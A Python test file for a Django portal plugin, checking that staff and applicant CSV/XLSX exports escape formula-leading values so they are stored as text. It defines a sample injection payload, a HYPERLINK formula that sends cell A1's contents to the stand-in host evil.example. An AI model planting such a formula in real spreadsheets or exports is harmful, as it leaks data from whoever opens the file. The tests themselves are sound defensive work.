"""Formula injection: a value an applicant or a guest typed (a name, an address, a meter's type) that
starts with = + - @ or a tab/CR is written as text in every staff CSV/XLSX export — one shared export
layer (lk_plugin.core.export) — so «=HYPERLINK(…)» never becomes a live formula for the specialist."""

import csv
import io

import pytest
from django.test import TestCase
from django.urls import reverse
from openpyxl import load_workbook

from lk_plugin.core.export import escape_formula
from tests import factories as f
from tests.job_helpers import staff_export
from tests.security.staff_data import populate

PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"Открыть")'

#: Every staff list that offers an export (URL name of its index view).
EXPORTS = [
    "lk_application:index",
    "lk_appeal:index",
    "lk_applicant:index",
    "lk_meters:index",
    "lk_readings:index",
    "lk_consent_records:index",
]


@pytest.mark.parametrize("value", ["=1+1", "+7 916", "-2+3", "@SUM(A1)", "\t=1", "\r=1", PAYLOAD])
def test_formula_prefixes_are_escaped(value):
    assert escape_formula(value) == "'" + value


@pytest.mark.parametrize("value", ["Иванов", "12-15", 5, -5.0, None, "a=b"])
def test_other_values_are_left_alone(value):
    assert escape_formula(value) == value


def _csv_cells(response):
    content = b"".join(response.streaming_content) if response.streaming else response.content
    text = content.decode("utf-8-sig")
    delimiter = ";" if ";" in text.splitlines()[0] else ","
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


def _escaped(cells):
    return [c for c in cells if c.startswith("'" + PAYLOAD)]


def _xlsx_cells(response):
    content = b"".join(response.streaming_content) if response.streaming else response.content
    workbook = load_workbook(io.BytesIO(content))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    return cells


def _export(client, url, fmt):
    """The file of «Скачать CSV/XLSX»: straight from the list, or through its background job (the
    applications and appeals queues export large lists as jobs)."""
    with TestCase.captureOnCommitCallbacks(execute=True):
        response = client.get(url, {"export": fmt})
    if response.status_code == 302 and "/admin/lk-jobs/" in response["Location"]:
        return staff_export(client, url, {"export": fmt})
    return response


@pytest.fixture
def admin_client(client, db):
    client.force_login(f.user("root@example.ru", is_staff=True, is_superuser=True))
    return client


@pytest.mark.django_db
@pytest.mark.parametrize("url_name", EXPORTS)
def test_every_staff_export_writes_formulas_as_text(admin_client, url_name):
    populate(PAYLOAD)
    url = reverse(url_name)
    csv_response = _export(admin_client, url, "csv")
    assert csv_response.status_code == 200
    cells = _csv_cells(csv_response)
    assert any(PAYLOAD in cell for cell in cells), "the payload is in the export"
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert _escaped(cells)

    xlsx_response = _export(admin_client, url, "xlsx")
    assert xlsx_response.status_code == 200
    cells = _xlsx_cells(xlsx_response)
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert _escaped(texts)
    assert not [c for c in cells if c.data_type == "f"]
    assert not [t for t in texts if t.startswith(("=", "+", "-", "@", "\t", "\r"))]


@pytest.mark.django_db
def test_meter_history_export_of_the_applicant_goes_through_the_same_layer(monkeypatch):
    """The applicant's own history export (CSV and XLSX) uses lk_plugin.core.export too."""
    from lk_plugin.metering import export as meter_export
    from lk_plugin.metering.models import Meter

    person = f.applicant()
    meter = Meter.objects.create(
        owner=person,
        meter_type="x",
        serial_number="1",
        tariff_count=1,
        digits=6,
        address="a",
        status="active",
    )
    monkeypatch.setattr(meter_export, "history_table", lambda meter, history: (["Дата"], [[PAYLOAD, 1.5]]))
    assert _escaped(_csv_cells(meter_export.csv_response(meter, [])))
    cells = _xlsx_cells(meter_export.xlsx_response(meter, []))
    assert _escaped([str(c.value) for c in cells]) and not [c for c in cells if c.data_type == "f"]
